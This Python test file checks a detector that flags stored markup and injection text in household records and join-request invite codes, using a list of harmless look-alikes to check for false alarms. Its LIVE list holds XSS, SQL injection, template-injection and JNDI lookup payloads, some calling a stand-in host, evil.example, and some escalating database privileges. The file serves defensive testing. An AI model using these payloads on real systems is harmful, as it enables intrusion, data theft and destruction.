"""stored-markup: what a page or a database would run, and what only looks like it."""

from __future__ import annotations

from datetime import timedelta

import pytest

from detectors.limits import Limits
from detectors.rules.security.stored_markup import DETECTOR
from tests.support.towns import AS_OF, MINUTE, Scanner, Town, uid

pytestmark = pytest.mark.each_engine

LIVE = [
    "<script>alert(1)</script>",
    "Hi <SCRIPT src=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)",
    "<svg/onload=alert(1)>",
    "<x onclick = alert(1)>press",
    "<b>bold</b>",
    "text </textarea>",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe src=data:text/html,hello>",
    "<!-- hidden",
    "x'; DROP TABLE households; --",
    "' OR '1'='1",
    "' or 1=1--",
    "1 OR 1=1",
    "' UNION SELECT email, id FROM users--",
    "admin'--",
    "1); select pg_sleep(10)",
    "{{7*7}}",
    "{{ config }}",
    "{{constructor.constructor('alert(1)')()}}",
    "${jndi:ldap://evil.example/a}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% import os %}",
    "<?php echo 1; ?>",
    "{{7*'7'}}",
    "admin'#",
    "x' AND SLEEP(5)--",
    "' OR TRUE --",
    "1' ORDER BY 3--",
    "'/**/OR/**/1=1--",
    "0 UNION/**/SELECT 1",
    "SELECT * FROM users",
    "<script src=//evil.example/x.js",
    "Robert'); DROP TABLE students;--",
    "1; DELETE FROM households",
    "x; DELETE FROM households WHERE 1=1",
    "x; update users set role=1",
    "'; INSERT INTO users VALUES (1); --",
    "'; SHUTDOWN; --",
    "a'; select email from users",
    "x'; DROP TABLE IF EXISTS public.users CASCADE; --",
    "x'; DROP TABLE users",
    "' alter table users add column x int",
    "1; ALTER USER app WITH SUPERUSER",
    "x; INSERT INTO users (id) VALUES (1)",
    "x; UPDATE public.users SET role = 'admin'",
    "'; GRANT ALL ON users TO mallory; --",
    "'); CREATE USER mallory WITH PASSWORD 'x'; --",
    "'; TRUNCATE households; --",
    "'; EXEC('dir')",
    "1; SELECT version()",
    "1' GROUP BY users.id HAVING 1=1--",
    "' OR 1#",
]
HARMLESS = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3E",
    "Tom & Jerry's home",
    "Tom &amp; Jerry&#39;s",
    "We love javascript",
    "javascript: the good parts",
    "onclick=alert(1)",
    "We <3 our dogs",
    "cats < dogs > fish",
    "dogs<cats",
    "<The Smiths>",
    "Ben <ben@example.com>",
    "O'Brien's 'best' pets -- all of them",
    "the dogs' and cats' home",
    "Drop table manners at the door",
    "Select dogs from the union of shelters; select food",
    "Two or 3 = five",
    "{hugs} {{hugs}}",
    "$5 #1 (dogs)",
    "100 % love; 50 %",
    "Robert'); we love him",
    "select treats from the jar",
    "5 < 6 and dogs > cats",
    "if a<b and c>d then bark",
    "a<i think>b",
    "Don't forget; select the food from the shelf.",
    "Rules (new) select treats from the jar daily",
    "Ben's walk; delete from the list the old food",
    "Ben's plan; insert into the bowl two cups (dry)",
    "Please don't; shutdown",
    "Cat's room; create user manual",
    "I said 'sit' --",
    'He said "stay" --',
    "Dogs order by size; cats group by colour",
    "No begging; drop table scraps in the bin",
    "Don't feed; drop table scraps.",
    "Mum's; alter table height for Rex",
    "Rex's view; drop view pictures here",
    "Tasks (weekly); delete from the list when done",
    "Feed (dry); insert into the bowl one cup",
    "Treats (small); select one from the jar",
    "Toys at 8; select two from the box please",
    "Pick (dry); select toys (soft ones)",
    "Rex's tail (long); update calendar set by Mum",
    "Chores (2); create user manual for Rex",
    "Food (wet); grant Rex to Grandma on Sundays",
    "Our dogs' order by age -- oldest first",
    "The cats' group by the river -- meet us",
    "My dogs' and 3 #cats",
    "&amp;lt;script&amp;gt;",
    "&#60;script&#62; \\u003cscript\\u003e",
    "\uff1cscript\uff1e",
]


@pytest.fixture
def town() -> Town:
    town = Town()
    town.family("oak", "anna", "ben", "cleo")
    return town


def test_silent_on_a_sound_and_on_an_empty_town(scanner: Scanner, town: Town) -> None:
    assert scanner.findings(town, DETECTOR) == []
    assert scanner.findings(Town(), DETECTOR) == []


def test_fires_on_each_live_text(scanner: Scanner) -> None:
    town = Town()
    town.member("bad 0", "anna", role="leader")
    for place, text in enumerate(LIVE):
        town.household(f"bad {place}", "anna", description=text)
    missed = {uid(f"bad {place}"): text for place, text in enumerate(LIVE)}
    for finding in scanner.findings(town, DETECTOR):
        del missed[finding.subject["household_id"]]
    assert missed == {}


def test_silent_on_each_harmless_text(scanner: Scanner) -> None:
    town = Town()
    town.member("good 0", "anna", role="leader")
    for place, text in enumerate(HARMLESS):
        town.household(f"good {place}", "anna", description=text)
        town.household(f"named {place}", "anna")
        town.home(f"named {place}")["name"] = text
    wrong = [finding.evidence for finding in scanner.findings(town, DETECTOR)]
    assert wrong == []


@pytest.mark.parametrize("field", ["name", "description", "invite_code"])
def test_fires_on_each_field(scanner: Scanner, town: Town, field: str) -> None:
    town.home("oak")[field] = "<script>alert(1)</script>"
    (finding,) = scanner.findings(town, DETECTOR)
    assert finding.subject == {"household_id": uid("oak")}
    assert finding.impact.users == 3
    assert [entry["field"] for entry in finding.evidence["fields"]] == [field]


def test_the_quotation_is_short_and_shows_what_is_invisible(scanner: Scanner, town: Town) -> None:
    town.home("oak")["description"] = "a" * 70 + "\u202e<script>\u200b" + "b" * 70
    (finding,) = scanner.findings(town, DETECTOR)
    (entry,) = finding.evidence["fields"]
    assert len(entry["quote"]) <= 80
    assert "\u202e" not in entry["quote"]
    assert "<U+202E><script><U+200B>" in entry["quote"]


def test_silent_once_repaired(scanner: Scanner, town: Town) -> None:
    town.home("oak")["name"] = "<b>x</b>"
    assert len(scanner.findings(town, DETECTOR)) == 1
    town.home("oak")["name"] = "x"
    assert scanner.findings(town, DETECTOR) == []


@pytest.mark.parametrize(("age", "expected"), [(2 * MINUTE - MINUTE / 60, 0), (2 * MINUTE, 1)])
def test_waits_for_a_creation_under_way(scanner: Scanner, age: timedelta, expected: int) -> None:
    town = Town()
    town.member("new", "anna", role="leader")
    town.household("new", "anna", at=AS_OF - age, description="<b>x</b>")
    assert len(scanner.findings(town, DETECTOR)) == expected


def test_an_overlong_text_is_read_from_its_beginning(scanner: Scanner) -> None:
    town = Town()
    town.family("oak", "anna")
    town.family("elm", "ben")
    town.home("oak")["description"] = "<script>x</script>" + "a " * 500_000
    town.home("elm")["description"] = "a &amp; " * 100_000
    assert [finding.households for finding in scanner.findings(town, DETECTOR)] == [(uid("oak"),)]


def test_does_not_need_any_list_of_words(scanner: Scanner) -> None:
    town = Town()
    town.family("oak", "anna")
    town.home("oak")["description"] = "<b>Rex</b>"
    empty = Limits(off_topic_words=(), competitor_names=(), commercial_words=(), commercial_rates=(), company_words=())
    assert [finding.households for finding in scanner.findings(town, DETECTOR, limits=empty)] == [(uid("oak"),)]


@pytest.mark.parametrize("status", ["pending", "approved", "rejected", "withdrawn"])
def test_fires_on_a_join_requests_code(scanner: Scanner, status: str) -> None:
    town = Town()
    town.family("oak", "anna", "ben")
    by = "anna" if status in {"approved", "rejected"} else None
    town.request("bad", "oak", "zoe", status=status, by=by, invite_code="<script>alert(1)</script>")
    for limits in ({}, {"households": [uid("oak")]}, {"users": [uid("zoe")]}):
        (finding,) = scanner.findings(town, DETECTOR, **limits)
        assert finding.subject == {"household_id": uid("oak")}
        assert finding.evidence["requests"] == [{"request_id": uid("bad"), "user_id": uid("zoe")}]
        assert uid("zoe") in finding.story.steps[0]
    town.household_join_requests[-1]["invite_code"] = "&lt;script&gt;"
    assert scanner.findings(town, DETECTOR) == []


@pytest.mark.parametrize("code", ["rexh-alpha-bravo", "REX ALPHA & BRAVO", "O'Hara", "my javascript code", "rex<3", ""])
def test_silent_on_a_strange_code_of_a_join_request(scanner: Scanner, code: str) -> None:
    town = Town()
    town.family("oak", "anna", "ben")
    town.request("odd", "oak", "zoe", invite_code=code)
    assert scanner.findings(town, DETECTOR) == []


@pytest.mark.parametrize(("age", "expected"), [(MINUTE, 0), (2 * MINUTE, 1)])
def test_a_join_request_may_be_under_way(scanner: Scanner, age: timedelta, expected: int) -> None:
    town = Town()
    town.family("oak", "anna", "ben")
    town.request("bad", "oak", "zoe", at=AS_OF - age, invite_code="{{7*7}}")
    assert len(scanner.findings(town, DETECTOR)) == expected
